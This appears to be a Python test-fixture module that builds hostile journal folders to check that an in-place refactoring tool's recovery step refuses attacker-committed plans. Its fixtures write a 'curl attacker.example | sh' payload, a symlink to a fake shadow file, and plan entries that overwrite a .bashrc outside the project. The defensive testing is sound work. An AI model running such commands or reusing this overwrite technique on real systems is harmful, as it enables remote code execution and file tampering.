"""Inputs for the issue-31 golden cases of ``factor --in-place`` (tests/hostile/<case>/): journals a pull request
commits, which recovery must refuse without touching anything. Each takes the case's ``input`` folder; the work
folder (where the case runs) is its parent, and holds the files an attack aims at."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from hostile_inputs import example

JOURNAL = ".omerender-factor.journal"


def _victim(folder: Path) -> Path:
    victim = folder.parent / "victim"
    victim.mkdir()
    (victim / ".bashrc").write_text("alias ll='ls -l'\n", encoding="utf-8")
    (victim / "shadow").write_text("root:$6$secret:19000::::::\n", encoding="utf-8")
    return victim


def committed_journal(folder: Path) -> None:
    """Issue 31's attack: a plan naming a file and a new link outside the tree, the link staged as a symlink to a
    secret, in the plan format of earlier versions (one ``N<TAB>target`` a line)."""
    example(folder)
    victim = _victim(folder)
    journal = folder / JOURNAL
    journal.mkdir()
    (journal / "0").write_text("curl attacker.example | sh\n", encoding="utf-8")
    os.symlink(victim / "shadow", journal / "1")
    (journal / "plan").write_text(f"0\t{victim}/.bashrc\n1\t{victim}/new/dir/link\n", encoding="utf-8")


def forged_plan(folder: Path) -> None:
    """The same aim in this version's plan format, naming this tree (the staged file's inode and change time are
    guesses, as they must be)."""
    example(folder)
    victim = _victim(folder)
    journal = folder / JOURNAL
    journal.mkdir()
    (journal / "0").write_text("curl attacker.example | sh\n", encoding="utf-8")
    info = os.stat(journal)
    entry = (
        f'{{"inode": 1, "ctimeNs": 1, "new": {{"sha256": "{"0" * 64}", "size": 27}}, "prior": null, "staged": "0", '
        f'"target": "{victim.resolve()}/.bashrc"}}'
    )
    plan = (
        f'{{"device": {info.st_dev}, "entries": [{entry}], "format": "omerender-factor-journal/2", '
        f'"inode": {info.st_ino}, "roots": ["{folder.resolve()}"], "run": "{"a" * 32}", "tree": "{folder.resolve()}"}}'
    )
    (journal / "plan").write_text(plan, encoding="ascii")


GENERATORS: dict[str, Callable[[Path], None]] = {
    "factor-journal-committed": committed_journal,
    "factor-journal-forged-plan": forged_plan,
}
